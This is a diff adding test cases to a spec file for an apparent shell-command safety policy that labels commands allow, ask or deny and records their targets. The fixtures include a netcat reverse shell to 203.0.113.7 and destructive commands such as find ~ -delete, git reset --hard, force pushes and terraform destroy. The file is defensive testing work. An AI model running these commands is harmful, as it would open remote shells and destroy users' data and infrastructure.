@@ -14,6 +14,7 @@ const WIN_ENV = { cwd: "C:\\Users\\dev\\src\\app", home: "C:\\Users\\dev", path_
 const at = (verdict: string, artifact_id: string) => fired(artifact_id, verdict);
 const gap = (shape: number) => ({ verdict: "ask", atom_id: `unknown.shape.${shape}`, artifact_id: null, unknown: [shape] });
 const allow = { ...neutral, unknown: [] };
+const fx = (verb: string, target_class: string, attrs: Record<string, unknown>) => ({ verb, target_class, attrs });
 
 function c(name: string, command: string, expect: Record<string, unknown>, extra: Record<string, unknown> = {}): CaseSpec {
   return { name, bundle: DEFAULT, event: bash(command, extra), expect };
@@ -166,6 +167,19 @@ export const specs: CaseSpec[] = [
   // ── 8. effect attributes: the reason names the operand ────────────────
   c("a redirect to /etc/passwd names /etc/passwd", "echo hello > /etc/passwd", at("ask", "fs.system_write")),
   c("find's root is the target of its wipe", "find ~ -type f -delete", at("deny", "fs.wipe")),
+  // Issue 22: `target` is the operand, never the argument list; `command` is the command as written.
+  c("git reset --hard HEAD~3 targets the commit, and the reason quotes the command", "git reset --hard HEAD~3", { ...at("deny", "git.reset_hard"), effects: [fx("discard", "workspace_file", { program: "git", command: "git reset --hard HEAD~3", target: "HEAD~3", operation: "reset --hard" })] }),
+  c("git reset --hard names no operand: no target", "git reset --hard", { ...at("deny", "git.reset_hard"), effects: [fx("discard", "workspace_file", { program: "git", command: "git reset --hard", operation: "reset --hard" })] }),
+  c("a wrapped reset quotes its wrapper and redirection; the target stays the commit", "cd repo && sudo git reset --hard HEAD~3 2>/dev/null", { ...at("deny", "git.reset_hard"), effects: [fx("discard", "workspace_file", { program: "git", command: "sudo git reset --hard HEAD~3 2>/dev/null", target: "HEAD~3", operation: "reset --hard" })] }),
+  c("a force push targets its refspec", "git push --force origin main", { ...at("deny", "git.force_push_protected"), effects: [fx("push", "vcs_remote", { program: "git", command: "git push --force origin main", target: "main", operation: "push", force: true, branch: "main", scope: "branch" })] }),
+  c("git checkout -- . targets the paths after --", "git checkout -- .", { ...at("ask", "git.discard_worktree"), effects: [fx("discard", "workspace_file", { program: "git", command: "git checkout -- .", target: ".", operation: "checkout" })] }),
+  c("an unprotected branch delete targets the branch (allowed)", "git branch -D feature/old", { ...allow, effects: [fx("discard", "vcs_history", { program: "git", command: "git branch -D feature/old", target: "feature/old", operation: "branch -D", force: true, branch: "feature/old" })] }),
+  c("a family row targets the operands after its subcommand path, not the flags", "kubectl --context prod delete deployment api", { ...at("ask", "cloud.teardown"), effects: [fx("destroy", "infrastructure", { program: "kubectl", command: "kubectl --context prod delete deployment api", target: "deployment api", service: "kubernetes", operation: "delete", resource: "deployment", is_production: true })] }),
+  c("terraform destroy names no operand: no target", "terraform destroy -auto-approve", { ...at("deny", "infra.destroy"), effects: [fx("destroy", "infrastructure", { program: "terraform", command: "terraform destroy -auto-approve", service: "terraform", operation: "destroy", teardown: "stack" })] }),
+  c("an install targets the package (allowed)", "npm install left-pad", { ...allow, effects: [fx("install", "package", { program: "npm", command: "npm install left-pad", target: "left-pad", package: "left-pad" })] }),
+  c("a reverse shell targets its socket", "nc -e /bin/sh 203.0.113.7 4444", { ...at("deny", "net.reverse_shell"), effects: [fx("execute", "remote_code", { program: "nc", command: "nc -e /bin/sh 203.0.113.7 4444", target: "203.0.113.7 4444", via: "reverse shell" })] }),
+  c("a tunnel targets what it publishes", "ngrok http 8080", { ...at("ask", "net.expose"), effects: [fx("send", "network_host", { program: "ngrok", command: "ngrok http 8080", target: "8080", exposes: "tunnel" })] }),
+  c("git log of the same commit has no effect", "git log -3 HEAD~3", { ...allow, effects: [] }),
 ];
 
 // The ENV the cases run with (helpers.ts) is a Linux developer's; referenced so a reader sees it.
